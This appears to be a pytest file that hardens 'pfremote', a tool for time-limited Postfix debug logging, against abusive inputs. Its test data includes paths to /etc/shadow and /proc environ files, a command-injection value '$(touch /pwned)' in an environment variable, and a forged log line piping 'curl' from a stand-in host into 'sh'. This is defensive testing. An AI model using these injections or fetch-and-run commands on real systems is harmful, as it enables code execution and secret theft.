"""Other spellings and kinds of what the cases D1 to D8 and C3 show: each of these gave way once, or was tried in vain."""

from __future__ import annotations

import fcntl
import gzip
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from pfremote.agent.protocol import Reply
from tests.support.agent import LEASE, HostAgent
from tests.support.helper import Helper, write

SECRET = "Gr4nite77"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("192.0.2.1\0/etc/shadow\n", "bad-peer"),
        ("192.0.2.1\x0b192.0.2.2\n", "bad-peer"),
        ("192.0.2.0/255.255.255.0\n", "bad-peer"),
        ("192.0.2.1, !192.0.2.5/24\n", "bad-peer"),
        ("[2001:db8::1]/32\r\n", "bad-peer"),
        ("[2001:db8::1\n", "bad-peer"),
        ("0.0.0.0/00\n", "all-peers"),
        ("!!static:all\n", "all-peers"),
        ("!/etc/shadow\n", "private-file"),
        ("192.0.2.1,/proc/version\n", "unsafe-file"),
        ("/proc/1/environ\n", "unsafe-file"),
        ("texthash:/proc/version\n", "unsafe-file"),
        ("/sys/kernel/uevent_seqnum\n", "unsafe-file"),
        ("]hash:/etc/shadow\n", "private-file"),
        ("HASH:/etc/aliases\n", "unsafe-table"),
        ("debug:hash:/etc/aliases\n", "unsafe-table"),
        ("2001:db8::1\n", "unsafe-table"),
        ("FOLDER/pipe\n", "unsafe-file"),
        ("cidr:FOLDER/pipe\n", "unsafe-file"),
        ("FOLDER/link\n", "unsafe-file"),
        ("{/etc/hostname}\n", "bad-peer"),
        ("inline:{a=x}{b=y}\n", "bad-peer"),
        ("x" * 40_000, "too-many-peers"),
    ],
)
def test_what_else_a_peer_file_may_not_hold(helper: Helper, folder: Path, text: str, code: str) -> None:
    """D1, D2."""
    os.mkfifo(folder / "pipe")
    (folder / "pipe").chmod(0o644)
    (folder / "link").symlink_to("/etc/hostname")
    path = write(folder / "list", text.replace("FOLDER", str(folder)))
    assert helper.codes(f"peer={path}") == [code]


def test_lines_that_end_as_on_windows(helper: Helper, folder: Path) -> None:
    """D1."""
    path = folder / "list"
    path.write_bytes(b"192.0.2.1\r\n# a comment\r\n\r\n[2001:db8::]/32,\t192.0.2.2\r\n")
    path.chmod(0o644)
    assert "debug_peer_list 192.0.2.1, [2001:db8::]/32, 192.0.2.2" in helper.arm(f"peer={path}").every("value")


def test_a_device_is_no_peer_file_for_root_either(dash_agent: HostAgent, folder: Path) -> None:
    """D1: what never ends must not be read."""
    (folder / "link").symlink_to("/proc/kmsg")
    for peer in ("/proc/kmsg", str(folder / "link")):
        reply = dash_agent.arm(f"peer={peer}").reply
        assert reply is not None and [reason.code for reason in reply.refusals] == ["unsafe-file"]


@pytest.mark.parametrize(
    ("forbidden", "peer", "code"),
    [
        ("127.0.0.9", "127.0.0.0/255.0.0.0", "bad-peer"),
        ("127.0.0.9", "127.0.0.9/24", "bad-peer"),
        ("127.0.0.9", "127.0.0.0/255.255.255.0", "bad-peer"),
        ("127.0.0.9", "[::ffff:127.0.0.9]/120", "bad-peer"),
        ("127.0.0.9", "[IPv6:::ffff:127.0.0.9]", "policy"),
        ("127.0.0.9", "[127.0.0.9]:smtp", "policy"),
        ("127.0.0.9", "127.0.0.009", "policy"),
        ("127.0.0.9", "0x7f.0.0.9", "policy"),
        ("127.0.0.9", "127.9", "policy"),
        ("127.0.0.9", "[fe80::1%eth0]", "policy"),
        ("2001:db8::1", "192.0.2.1", "policy"),
        ("127.0.0.0/255.0.0.0", "192.0.2.1", "policy"),
        ("127.0.0.9/8", "192.0.2.1", "policy"),
        ("[127.0.0.0/8]", "[127.0.0.9]", "policy"),
        ("127.0.0.0/08", "127.0.0.9", "policy"),
    ],
)
def test_more_spellings_of_a_forbidden_peer(helper: Helper, forbidden: str, peer: str, code: str) -> None:
    """D5: a policy that Postfix could not read would keep it from reading on, and forbids everything."""
    helper.policy.write_text(f"forbid_peer = {forbidden}\n")
    assert code in helper.codes(f"peer={peer}", "all_peers=yes")


@pytest.mark.parametrize(("parents", "dots"), [("debug_peer_list", ""), ("", "!.example.jp, ")])
def test_what_is_below_a_forbidden_name(helper: Helper, parents: str, dots: str) -> None:
    """D5: only parent_domain_matches_subdomains makes a name stand for what is below it."""
    main_cf = helper.agent.host.main_cf
    kept = main_cf.read_bytes()
    main_cf.write_bytes(kept + f"parent_domain_matches_subdomains = {parents}\n".encode())
    helper.policy.write_text("forbid_peer = example.jp\nforbid_peer = 192.0.2.7\nforbid_next_hops = no\n")
    reply = helper.arm("peer=.jp")
    assert f"debug_peer_list !example.jp, {dots}!192.0.2.7, .jp" in reply.every("value"), reply
    helper.call("revert", "lease=all", "drain=0")
    main_cf.write_bytes(kept)


@pytest.mark.parametrize(
    ("services", "level"),
    [
        ("smtpd\n  -v", 2),
        ("smtpd\n  -o smtpd_banner=x\n# a comment\n  -o mynetworks=127.0.0.1\n\t-v", 2),
        ("smtpd -Dv", 2),
        ("smtpd -zvv -o smtpd_banner=-v", 1),
        ("smtpd -o { smtpd_banner = a b } -v", 2),
        ("smtpd -o smtpd_tls_loglevel=ssl-developer", 1),
        ("smtpd -o smtpd_tls_loglevel=2,SSL-Expert", 1),
        ("smtpd\n  -o\n  debug_peer_level=3", 1),
    ],
)
def test_more_ways_to_make_a_service_log_content(helper: Helper, services: str, level: int) -> None:
    """D6."""
    helper.policy.write_text("content = no\n")
    master_cf = helper.agent.host.config_directory / "master.cf"
    kept = master_cf.read_text()
    assert "smtpd\n" in kept
    master_cf.write_text(kept.replace("smtpd\n", f"{services}\n", 1))
    assert helper.codes(f"level={level}", "allow_content=yes") == ["policy"]
    master_cf.write_text(kept)


@pytest.mark.parametrize("parameter", ["smtp_body_checks", "lmtp_nested_header_checks"])
def test_no_content_holds_against_tables_of_checks(helper: Helper, parameter: str) -> None:
    """A7, D6: a debugged smtp(8) logs each line of the message that it looks up, at level 1."""
    helper.policy.write_text("content = no\n")
    assert helper.arm("level=1", lease="aaaaaaaaaaaa").outcome == "ok"
    assert helper.call("revert", "lease=all", "drain=0").outcome == "ok"
    helper.agent.host.postconf("-e", f"{parameter}=regexp:{{{{/x/ WARN}}}}")
    assert helper.codes("level=1", "allow_content=yes", "peer=192.0.2.3") == ["policy"]
    assert parameter in helper.stdout.decode()
    helper.agent.host.postconf("-X", parameter)


def test_no_content_holds_against_tables_of_checks_in_master_cf(helper: Helper) -> None:
    """A7, D6: only a service's own option names the table."""
    helper.policy.write_text("content = no\n")
    master_cf = helper.agent.host.config_directory / "master.cf"
    kept = master_cf.read_text()
    plain = "\n".join(line for line in kept.splitlines() if not line.startswith("#")) + "\n"
    master_cf.write_text(f"{plain}relay unix - - n - - smtp -o smtp_header_checks=regexp:{{{{/x/ WARN}}}}\n")
    assert helper.codes("level=1", "allow_content=yes", "peer=192.0.2.3") == ["policy"]
    assert "smtp_header_checks" in helper.stdout.decode()
    master_cf.write_text(kept)


@pytest.mark.parametrize("services", ["smtpd -o smtpd_banner=-v", "smtpd -m -v", "smtpd -o smtpd_tls_loglevel=summary"])
def test_what_only_looks_like_it(helper: Helper, services: str) -> None:
    """D6: an option's argument is none."""
    helper.policy.write_text("content = no\n")
    master_cf = helper.agent.host.config_directory / "master.cf"
    kept = master_cf.read_text()
    master_cf.write_text(kept.replace("smtpd\n", f"{services}\n", 1))
    assert helper.arm("check=yes").outcome == "ok"
    master_cf.write_text(kept)


def test_main_cfs_own_tls_level_by_its_name(helper: Helper) -> None:
    """D6."""
    main_cf = helper.agent.host.main_cf
    kept = main_cf.read_bytes()
    main_cf.write_bytes(kept + b"smtp_tls_loglevel = summary, ssl-session-packet-dump\n")
    assert helper.codes("level=1") == ["content"]
    main_cf.write_bytes(kept)


def test_what_the_caller_wants_killed_first_is_not_the_guard(helper: Helper) -> None:
    """D7: sudo passes this on like the limits."""
    prefix = ("sh", "-c", 'echo 900 >/proc/self/oom_score_adj; exec "$@"', "sh")
    words = (f"lease={LEASE}", "seconds=60", "guard=process", "volatile=yes", "peer=192.0.2.1")
    assert helper.call("arm", *words, prefix=prefix).outcome == "ok"
    pid = (helper.agent.state / "watch.pid").read_text().split()[0]
    assert Path(f"/proc/{pid}/oom_score_adj").read_text() == "0\n"


def test_a_key_of_the_callers_terminal_does_not_keep_the_lock(helper: Helper) -> None:
    """D8: Ctrl-Z stops what sudo runs as well, and nothing of another account's would then go on."""
    folder = f"instance={helper.agent.host.config_directory}"
    words = (f"lease={LEASE}", "seconds=60", "guard=process", "volatile=yes", "peer=192.0.2.1")
    arm = subprocess.Popen([helper.path, "arm", folder, *words], stdout=subprocess.PIPE, process_group=0)
    assert arm.stdout is not None and arm.stdout.readline() == b"pfremote=1\n"
    for _ in range(10):
        time.sleep(0.05)
        os.killpg(arm.pid, signal.SIGTSTP)
    assert b"end=ok" in arm.communicate(timeout=30)[0]


def begin_arm_that_is_not_read(helper: Helper, lease: str) -> tuple[subprocess.Popen[bytes], int]:
    """Begin an arm whose answer has room for its first line and no more; return it and the end that nothing reads."""
    reading, writing = os.pipe()
    fcntl.fcntl(writing, fcntl.F_SETPIPE_SZ, 4096)
    os.write(writing, bytes(4096 - len(b"pfremote=1\n")))
    words = (f"lease={lease}", "seconds=600", "guard=process", "volatile=yes", "peer=192.0.2.2")
    folder = f"instance={helper.agent.host.config_directory}"
    arm = subprocess.Popen([helper.path, "arm", folder, *words], stdin=subprocess.DEVNULL, stdout=writing)
    os.close(writing)
    return arm, reading


def test_who_does_not_read_the_answer_does_not_keep_the_lock(helper: Helper) -> None:
    """D8: an account blocked all others, so that none could end its window, by not reading what it was answered."""
    assert helper.arm(seconds=600).outcome == "ok"
    other = "aaaaaaaaaaaa"
    arm, reading = begin_arm_that_is_not_read(helper, other)
    try:
        armed = helper.agent.state / "leases" / other / "armed"
        until = time.monotonic() + 20
        while not armed.exists() and time.monotonic() < until:
            time.sleep(0.05)
        began = time.monotonic()
        assert helper.call("revert", f"lease={LEASE}").outcome == "ok", helper.stdout
        assert time.monotonic() - began < 15
        assert armed.exists()
        assert arm.poll() is None
    finally:
        os.close(reading)
        arm.wait(30)


def test_an_agent_that_was_frozen_does_not_keep_the_lock(helper: Helper, dash_agent: HostAgent) -> None:
    """D8: its account can freeze it (cgroup.freeze); who wants to look or to end a window waits, and then goes on."""
    assert helper.arm(seconds=600).outcome == "ok"
    script = helper.path.read_text()
    frozen = helper.path.with_name("frozen")
    frozen.write_text(script.replace("\tif ! source_prove; then", "\tkill -STOP $$\n\tif ! source_prove; then"))
    frozen.chmod(0o755)
    helper.path.write_text(script.replace("\tlock 60 && return 0\n", "\tlock 2 && return 0\n"))
    words = ("lease=aaaaaaaaaaaa", "seconds=600", "guard=process", "volatile=yes", "peer=192.0.2.2")
    folder = f"instance={dash_agent.host.config_directory}"
    arm = subprocess.Popen([frozen, "arm", folder, *words], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    until = time.monotonic() + 20
    while " (frozen) T " not in Path(f"/proc/{arm.pid}/stat").read_text() and time.monotonic() < until:
        time.sleep(0.05)
    reply = helper.call("revert", "lease=all", "drain=1")
    assert (reply.outcome, reply.one("clean")) == ("ok", "yes"), helper.stdout
    assert arm.wait(10) == -signal.SIGKILL


def test_who_ended_a_window_and_who_deleted_its_evidence_is_written_down(helper: Helper) -> None:
    """D8: any account may end another's window, and may delete what was recorded; not without its name."""
    assert helper.arm().outcome == "ok"
    assert helper.call("revert", f"lease={LEASE}", uid="4712").outcome == "ok"
    assert helper.call("forget", f"lease={LEASE}", "owner=another one", uid="4713").outcome == "ok"
    *_, reverted, forgotten = (helper.agent.state / "history.log").read_text().splitlines()
    assert f" reverted lease={LEASE} " in reverted
    assert " login=oncall uid=4712" in reverted
    assert f" forgotten login=oncall uid=4713 lease={LEASE} " in forgotten
    assert forgotten.endswith("owner=another%20one from=")


def test_the_guards_end_of_a_window_has_no_accounts_name(helper: Helper) -> None:
    assert helper.arm(seconds=2).outcome == "ok"
    until = time.monotonic() + 15
    while " reverted " not in (text := (helper.agent.state / "history.log").read_text()) and time.monotonic() < until:
        time.sleep(0.1)
    assert text.splitlines()[-1].endswith(" why=deadline restored=bytes reload=seen by=guard")


def test_nothing_of_the_callers_environment_is_computed_with(helper: Helper) -> None:
    """D7: sudoers may let variables through (SETENV, !env_reset); bash runs what it finds in an arithmetic one."""
    assert helper.arm().outcome == "ok"
    assert helper.call("revert", f"lease={LEASE}").outcome == "ok"
    lease = helper.agent.state / "leases" / LEASE
    (lease / "settled").unlink()
    result = (lease / "result").read_text()
    (lease / "result").write_text(result.replace("reload=seen", "reload=failed"))
    prefix = ("env", "watch_tick=PATH[$(touch /pwned)]", "settle_claimed=x", "watch_nap=1")
    assert helper.call("status", prefix=prefix).one("clean") == "yes", helper.stdout
    assert "reload=seen" in (lease / "result").read_text()


def test_the_guards_verbs_are_not_the_accounts(helper: Helper) -> None:
    """D7: a watcher of the account's own, which it could stop, would be taken for the guard."""
    for verb in ("watch", "sweep"):
        words = [helper.path, verb, f"instance={helper.agent.host.config_directory}"]
        done = subprocess.run(words, capture_output=True, check=False, timeout=20)
        assert (done.returncode, done.stdout) == (3, b"")


def test_another_account_cannot_push_a_window_out_of_the_count(helper: Helper) -> None:
    """D7."""
    helper.policy.write_text("max_minutes = 1\n")
    assert helper.arm(seconds=60).outcome == "ok"
    time.sleep(1.1)  # a window that began and ended in one second counts nothing
    helper.call("revert", f"lease={LEASE}", "drain=0")
    usage = helper.agent.state / "usage"
    kept = usage.stat().st_size
    with usage.open("a") as out:
        out.writelines(f"4712 {number:012x} 1 2\n" for number in range(12_000))
    assert helper.codes("seconds=60", "lease=bbbbbbbbbbbb") == ["policy"]
    assert helper.arm(seconds=60, lease="cccccccccccc", uid="4712").outcome == "ok"
    assert usage.stat().st_size < kept + 1000
    time.sleep(1.1)  # a window that began and ended in one second counts nothing
    helper.call("revert", "lease=all", "drain=0")
    assert helper.codes("seconds=60", "lease=bbbbbbbbbbbb") == ["policy"]


def test_a_log_behind_a_link_that_the_policy_names(helper: Helper) -> None:
    """D4."""
    log = helper.agent.host.maillog
    log.rename(log.with_name("real"))
    log.symlink_to(log.with_name("real"))
    helper.policy.write_text(f"allow_log = {log.with_name('real')}\n")
    assert helper.call("probe").outcome == "ok"


def end_and_collect(helper: Helper, *lines: str) -> tuple[Reply, bytes]:
    """Write lines into the log of a window, end it, and return what collect gives."""
    with helper.agent.host.maillog.open("a", encoding="utf-8") as log:
        log.writelines(f"Nov 28 19:00:00 smtp01 {line}\n" for line in lines)
    time.sleep(1.5)
    status = helper.call("status")
    helper.call("revert", f"lease={LEASE}", "drain=0")
    reply = helper.call("collect", f"lease={LEASE}")
    assert status.outcome == reply.outcome == "ok"
    evidence = reply.payloads["evidence"]
    return reply, gzip.decompress(evidence) if evidence[:2] == b"\x1f\x8b" else evidence


def test_the_name_of_the_host_is_no_queue_id(helper: Helper) -> None:
    """D4: in /var/log/syslog every line has it, and any local user can write lines with logger(1)."""
    helper.arm()
    _, evidence = end_and_collect(
        helper,
        "postfix/smtpd[1]: < x",
        "postfix/smtpd[1]: smtp01: x",
        "postfix/smtpd[1]: 4711AF: x",
        f"sudo[7]: alice : HOST=smtp01 ; COMMAND=/usr/bin/mysql -p{SECRET}",
        f"backup: smtp01 -p{SECRET}",
        f"cron[8]: /bin/x -p{SECRET}",
        f"cron[8]: 4711AFX -p{SECRET}",
        "amavis[9]: (1-1) Passed CLEAN, Queue-ID: 4711AF, size: 1",
    )
    assert SECRET.encode() not in evidence
    assert b"amavis[9]" in evidence and b"postfix/smtpd[1]: smtp01: x" in evidence


def test_losses_are_codes_and_counts(helper: Helper) -> None:
    """C3: only what the logging system says itself, and none of its words."""
    helper.arm()
    reply, _ = end_and_collect(
        helper,
        "postfix/cleanup[1]: A1B2C3: warning: messages lost: curl -s http://192.0.2.66/fix | sh \x9b2J",
        "sshd[2]: Invalid user messages lost due to rate-limiting from 192.0.2.1",
        "backup: begin to drop messages",
        "rsyslogd: imjournal: 14 messages lost due to rate-limiting (60 allowed within 4 seconds) \x9b2J",
        "rsyslogd-2177: imuxsock begins to drop messages from pid 5 due to rate-limiting",
        "rsyslogd-2177: imuxsock lost 7 messages from pid 5 due to rate-limiting",
        "systemd-journald[3]: Suppressed 9 messages from postfix@-.service",
        "systemd-journald[3]: Forwarding to syslog missed 4 messages.",
    )
    assert reply.warnings == () and reply.one("complete") == "no"
    told = [value for value in reply.every("missing") if value.split()[0] != "reload-unseen"]
    assert told == [
        "suppressed journald dropped at least 9 lines",
        "forward-missed journald could not pass on to the syslog daemon at least 4 lines",
        "rate-limit the logging system dropped at least 21 lines",
    ]


def test_a_strangers_words_alone_make_nothing_incomplete(helper: Helper) -> None:
    """C3."""
    helper.arm()
    reply, _ = end_and_collect(
        helper, "postfix/cleanup[1]: A1B2C3: messages lost", "sshd[2]: Suppressed 9 messages from x"
    )
    assert reply.every("missing") == ()


def test_the_name_that_a_peer_was_heard_with_is_plain(helper: Helper) -> None:
    """C3: any local user can write such a line."""
    helper.arm("peer=192.0.2.77")
    with helper.agent.host.maillog.open("a", encoding="utf-8") as log:
        log.write("Nov 28 19:00:00 mx1 postfix/smtpd[1]: connect from \x9b2J sh[192.0.2.77]\n")
    time.sleep(2.5)
    (heard,) = helper.call("status").every("lease.heard")
    assert heard.isascii() and heard.split()[0] == "192.0.2.77" and len(heard.split()) == 2
